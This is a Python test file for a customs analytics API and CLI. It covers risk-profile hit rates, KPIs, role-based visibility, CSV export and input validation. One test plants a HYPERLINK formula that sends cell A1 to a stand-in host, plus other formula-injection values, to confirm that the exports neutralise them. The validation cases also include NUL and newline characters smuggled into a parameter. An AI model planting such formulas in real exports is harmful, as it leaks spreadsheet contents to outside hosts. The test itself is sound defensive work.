"""Profile effectiveness and KPIs through HTTP and the ``corridor report`` command.

The world is ``tests/integration/analytics/feedback_world.py`` (every figure counted by
hand there); the staff is ``tests/staff.py`` plus a viewer at the Osh post.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from fastapi.testclient import TestClient
from sqlalchemy import Engine, update
from sqlalchemy.orm import Session, sessionmaker
from typer.testing import CliRunner

from corridor.accounts import service as accounts_service
from corridor.accounts.roles import Role
from corridor.accounts.schemas import TokenIssue, UserCreate
from corridor.analytics.cli import app as report_app
from corridor.analytics.schemas import KpiReport, channel_days_csv, kpis_csv
from corridor.app import create_app
from corridor.config import Settings, get_settings
from corridor.db.tables import ProfileVersionRow
from corridor.db.uow import UnitOfWork
from corridor.errors import InvalidInput
from tests.cli import run_corridor
from tests.integration.analytics import feedback_world
from tests.staff import Staff, seed_staff

PROFILES = "/api/v1/analytics/profiles"
KPIS = "/api/v1/analytics/kpis"


@pytest.fixture
def staff(session_factory: sessionmaker[Session]) -> Staff:
    found = seed_staff(session_factory)
    with UnitOfWork(session_factory) as uow:
        accounts_service.create_user(
            uow=uow,
            user_in=UserCreate(
                username="viewer.post2", full_name="Viewer Osh", unit="POST-2", roles=[Role.VIEWER]
            ),
            actor="test",
        )
        _, secret = accounts_service.issue_token(
            uow=uow,
            username="viewer.post2",
            token_in=TokenIssue(name="tests", expires_days=30),
            actor="test",
            settings=Settings(),
        )
        uow.commit()
    found.tokens["viewer.post2"] = secret
    feedback_world.build(session_factory)
    return found


@pytest.fixture
def client(engine: Engine, database_url: str) -> Iterator[TestClient]:
    app = create_app(Settings(database_url=database_url), engine=engine)
    with TestClient(app, raise_server_exceptions=False) as test_client:
        yield test_client


def profiles(body: dict[str, Any]) -> dict[tuple[str, int], dict[str, Any]]:
    return {(p["code"], p["version"]): p for p in body["profiles"]}


def test_an_analyst_reads_profile_effectiveness(client: TestClient, staff: Staff) -> None:
    response = client.get(
        PROFILES, params={"period": "2026-10"}, headers=staff.headers(Role.RISK_ANALYST)
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/json"
    body = response.json()
    found = profiles(body)
    assert set(found) == {("NAT-2026-0001", 1), ("NAT-2026-0001", 2), ("NAT-2026-0002", 1)}
    a1 = found[("NAT-2026-0001", 1)]
    assert [a1[k] for k in ("matched", "exempt", "selected", "inspected", "hits")] == [
        7,
        1,
        5,
        4,
        1,
    ]
    assert a1["hit_rate"]["rate"] == 0.25
    assert a1["additional_duties"] == "1000.5"
    assert a1["lift"]["ratio"] == pytest.approx(0.5)
    assert body["random_control"]["hit_rate"]["rate"] == 0.5
    assert (body["date_from"], body["date_to"], body["scope"]) == ("2026-10-01", "2026-10-31", None)


@pytest.mark.parametrize("who", [Role.INTELLIGENCE_OFFICER, Role.APPROVER])
def test_target_profiles_are_shown_to_the_cleared(
    client: TestClient, staff: Staff, who: Role
) -> None:
    response = client.get(PROFILES, params={"period": "2026-10"}, headers=staff.headers(who))
    assert response.status_code == 200
    target = profiles(response.json())[("TGT-2026-0001", 1)]
    assert (target["kind"], target["hits"]) == ("target", 1)


@pytest.mark.parametrize("who", [Role.RISK_ANALYST, Role.VIEWER, Role.POST_ENTRY_AUDITOR])
def test_target_profiles_do_not_exist_for_others(
    client: TestClient, staff: Staff, who: Role
) -> None:
    body = client.get(PROFILES, params={"period": "2026-10"}, headers=staff.headers(who)).json()
    assert {p["kind"] for p in body["profiles"]} == {"national"}
    text = client.get(
        PROFILES, params={"period": "2026-10", "format": "csv"}, headers=staff.headers(who)
    ).text
    assert {r["kind"] for r in csv.DictReader(io.StringIO(text))} == {
        "national", "random", "targeted",
    }  # fmt: skip
    assert "TGT-2026-0001" not in text


def test_csv_has_a_header_row(client: TestClient, staff: Staff) -> None:
    response = client.get(
        PROFILES,
        params={"from": "2026-10-01", "to": "2026-10-31", "format": "csv"},
        headers=staff.headers(Role.RISK_ANALYST),
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert (
        "profile-effectiveness-2026-10-01-2026-10-31.csv" in response.headers["content-disposition"]
    )
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert response.text.startswith("code,version,title,kind,risk_area,matched,")
    assert [r["code"] for r in rows] == [
        "NAT-2026-0001", "NAT-2026-0002", "NAT-2026-0001", "RANDOM-CONTROL", "ALL-PROFILES",
    ]  # fmt: skip
    assert (rows[2]["version"], rows[2]["hits"], rows[2]["hit_rate"]) == ("1", "1", "0.25")


def test_a_regional_coordinator_sees_the_offices_of_the_region(
    client: TestClient, staff: Staff
) -> None:
    headers = staff.headers("coordinator.north")  # REG-N: the Bishkek post, KGBSK
    body = client.get(PROFILES, params={"period": "2026-10"}, headers=headers).json()
    a1 = profiles(body)[("NAT-2026-0001", 1)]
    assert [a1[k] for k in ("matched", "selected", "inspected", "hits")] == [6, 4, 3, 1]
    assert body["scope"] == ["KGBSK"]
    assert ("NAT-2026-0001", 2) not in profiles(body)
    osh = client.get(PROFILES, params={"period": "2026-10", "office": "KGOSH"}, headers=headers)
    assert osh.status_code == 200
    assert osh.json()["profiles"] == []
    assert osh.json()["random_control"]["selected"] == 0


def test_a_post_user_sees_the_post_only(client: TestClient, staff: Staff) -> None:
    headers = staff.headers("viewer.post2")  # the Osh post, KGOSH
    body = client.get(PROFILES, params={"period": "2026-10"}, headers=headers).json()
    assert set(profiles(body)) == {("NAT-2026-0001", 1), ("NAT-2026-0001", 2)}
    assert profiles(body)[("NAT-2026-0001", 1)]["hits"] == 0  # the corrected act at Osh
    kpis = client.get(KPIS, params={"period": "2026-10"}, headers=headers).json()
    assert kpis["total"]["declarations"] == 3
    assert [k["office"] for k in kpis["offices"]] == ["KGOSH"]
    assert {d["office"] for d in kpis["days"]} == {"KGOSH"}


def test_kpis(client: TestClient, staff: Staff) -> None:
    response = client.get(
        KPIS, params={"from": "2026-10-01", "to": "2026-10-31"}, headers=staff.headers(Role.VIEWER)
    )
    assert response.status_code == 200, response.text
    total = response.json()["total"]
    assert (total["declarations"], total["red"], total["inspections"]) == (13, 7, 9)
    assert total["duties_per_inspection"] == "172.28"
    assert total["inspections_per_officer_hour"] == pytest.approx(0.864)
    assert total["green_value_share"] == pytest.approx(42345.67 / 557345.67)
    office = client.get(
        KPIS,
        params={"period": "2026-10", "office": "KGOSH", "format": "csv"},
        headers=staff.headers(Role.APPROVER),
    )
    assert office.status_code == 200
    rows = list(csv.DictReader(io.StringIO(office.text)))
    assert [(r["office"], r["declarations"]) for r in rows] == [("KGOSH", "3"), ("ALL", "3")]


@pytest.mark.parametrize(
    ("params", "fields"),
    [
        ({}, [["query", "from"], ["query", "to"]]),
        ({"period": "2026-13"}, [["query", "period"]]),
        ({"period": "Oct 2026"}, [["query", "period"]]),
        ({"period": "2026-10", "from": "2026-10-01"}, [["query", "from"]]),
        ({"from": "2026-10-31", "to": "2026-10-01"}, [["query", "to"]]),
        ({"from": "2020-01-01", "to": "2026-10-01"}, [["query", "to"]]),
        ({"from": "2026-02-30", "to": "2026-03-01"}, [["query", "from"]]),
        ({"period": "2026-10", "office": "kgbsk"}, [["query", "office"]]),
        ({"period": "2026-10", "office": "K" * 18}, [["query", "office"]]),
        ({"period": "2026-10", "format": "xml"}, [["query", "format"]]),
        ({"period": "2026-10" * 10}, [["query", "period"]]),
        ({"period": "2026-13", "office": "Osh"}, [["query", "period"], ["query", "office"]]),
        ({"period": "2026-10", "office": "KGBSK\x00"}, [["query", "office"]]),
        ({"period": "2026-10", "office": "KGBSK\n"}, [["query", "office"]]),
        ({"period": "２０２６-10"}, [["query", "period"]]),
    ],
)
def test_bad_input_is_a_422_naming_the_field(
    client: TestClient, staff: Staff, params: dict[str, str], fields: list[list[str]]
) -> None:
    for path in (PROFILES, KPIS):
        response = client.get(path, params=params, headers=staff.headers(Role.RISK_ANALYST))
        assert response.status_code == 422, (path, params, response.text)
        body = response.json()
        assert body["type"] == "invalid input"
        assert [e["loc"] for e in body["errors"]] == fields, body


def test_an_inspector_may_not_read_analytics(client: TestClient, staff: Staff) -> None:
    response = client.get(
        PROFILES, params={"period": "2026-10"}, headers=staff.headers(Role.INSPECTOR)
    )
    assert response.status_code == 403


# --------------------------------------------------------------------------- the CLI


def corridor(url: str, cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """``corridor report …`` as a user runs it (exit codes come from ``corridor.cli``)."""
    return run_corridor("report", *args, database_url=url, cwd=cwd, columns=220)


@pytest.fixture
def report(database_url: str) -> Iterator[Callable[..., Result]]:
    """``corridor report …`` in this process (faster; errors come back as exceptions)."""
    get_settings.cache_clear()  # settings are read once per process; this test names its own

    def run(*args: str) -> Result:
        return CliRunner().invoke(
            report_app, list(args), env={"CORRIDOR_DATABASE_URL": database_url, "COLUMNS": "200"}
        )

    yield run
    get_settings.cache_clear()


def test_report_profiles_as_a_user_runs_it(database_url: str, staff: Staff, tmp_path: Path) -> None:
    table = corridor(database_url, tmp_path, "profiles", "--period", "2026-10")
    assert table.returncode == 0, table.stderr
    # by hit rate: the three 1-of-1 versions (by code), then NAT-2026-0001 v1 at 25 %;
    # the command shows target profiles (whoever runs it holds the database's credentials)
    names = ("NAT-2026-0001 v2", "NAT-2026-0002 v1", "TGT-2026-0001 v1", "NAT-2026-0001 v1")
    order = [name for line in table.stdout.splitlines() for name in names if name in line]
    assert order == list(names)
    assert "25.0 % (4.6–69.9)" in table.stdout
    assert "lift 1.00 (0.20–4.95)" in " ".join(table.stdout.split())

    bad = corridor(database_url, tmp_path, "profiles", "--period", "2026-13")
    assert bad.returncode == 2
    assert "period: must be a month written YYYY-MM" in bad.stderr


def test_report_formats_and_files(
    report: Callable[..., Result], staff: Staff, tmp_path: Path
) -> None:
    out = tmp_path / "kpis.json"
    written = report(
        "kpis", "--from", "2026-10-01", "--to", "2026-10-31", "--office", "KGBSK",
        "--format", "json", "--output", str(out),
    )  # fmt: skip
    assert written.exit_code == 0, written.output
    assert json.loads(out.read_text())["total"]["declarations"] == 10

    daily = report("kpis", "--period", "2026-10", "--daily", "--format", "csv")
    assert daily.exit_code == 0, daily.output
    rows = list(csv.DictReader(io.StringIO(daily.output)))
    assert len(rows) == 12
    assert (rows[0]["office"], rows[0]["day"], rows[0]["green"]) == ("KGBSK", "2026-10-01", "1")

    kpis = report("kpis", "--period", "2026-10")
    assert kpis.exit_code == 0, kpis.output
    assert "KGOSH" in kpis.output
    assert "53.8 %" in kpis.output  # the physical inspection rate, 7 of 13

    csv_file = tmp_path / "profiles.csv"
    assert (
        report(
            "profiles", "--period", "2026-10", "--format", "csv", "--output", str(csv_file)
        ).exit_code
        == 0
    )
    assert csv_file.read_text().startswith("code,version,title,")

    both = report("kpis", "--period", "2026-10", "--to", "2026-10-31")
    assert isinstance(both.exception, InvalidInput)
    assert [e.loc for e in both.exception.errors] == [("to",)]
    bad_day = report("kpis", "--from", "1 October", "--to", "2026-10-31")
    assert bad_day.exit_code == 2
    assert "--from" in bad_day.output


# --------------------------------------------------------------------------- formulas

HYPERLINK = '=HYPERLINK("http://example.test/?"&A1,"open")'


def test_exports_cannot_carry_formulas(
    client: TestClient,
    staff: Staff,
    session_factory: sessionmaker[Session],
    report: Callable[..., Result],
) -> None:
    """A profile titled like a formula is written as text in every CSV rendering; numbers
    stay numbers (spreadsheets read them as such)."""
    with session_factory() as session:
        session.execute(
            update(ProfileVersionRow)
            .where(ProfileVersionRow.code == "NAT-2026-0002")
            .values(title=HYPERLINK)
        )
        session.commit()
    analyst = staff.headers(Role.RISK_ANALYST)
    response = client.get(PROFILES, params={"period": "2026-10", "format": "csv"}, headers=analyst)
    assert response.status_code == 200
    from_cli = report("profiles", "--period", "2026-10", "--format", "csv")
    assert from_cli.exit_code == 0, from_cli.output
    for text in (response.text, from_cli.output):
        rows = {r["code"]: r for r in csv.DictReader(io.StringIO(text))}
        assert rows["NAT-2026-0002"]["title"] == f"'{HYPERLINK}"
        assert rows["NAT-2026-0002"]["hits"] == "1"
        assert rows["RANDOM-CONTROL"]["title"] == "selected at random and by no profile"

    # Office codes cannot hold a formula; the KPI renderings go through the same writer.
    kpis = KpiReport.model_validate(
        client.get(KPIS, params={"period": "2026-10"}, headers=analyst).json()
    )
    planted = kpis.model_copy(
        update={
            "offices": [kpis.offices[0].model_copy(update={"office": "+SUM(A1:A9)"})],
            "days": [kpis.days[0].model_copy(update={"office": "@A1"})],
        }
    )
    first = next(csv.DictReader(io.StringIO(kpis_csv(planted))))
    assert first["office"] == "'+SUM(A1:A9)"
    assert first["declarations"] == str(kpis.offices[0].declarations)
    day = next(csv.DictReader(io.StringIO(channel_days_csv(planted))))
    assert (day["office"], day["day"]) == ("'@A1", kpis.days[0].day.isoformat())
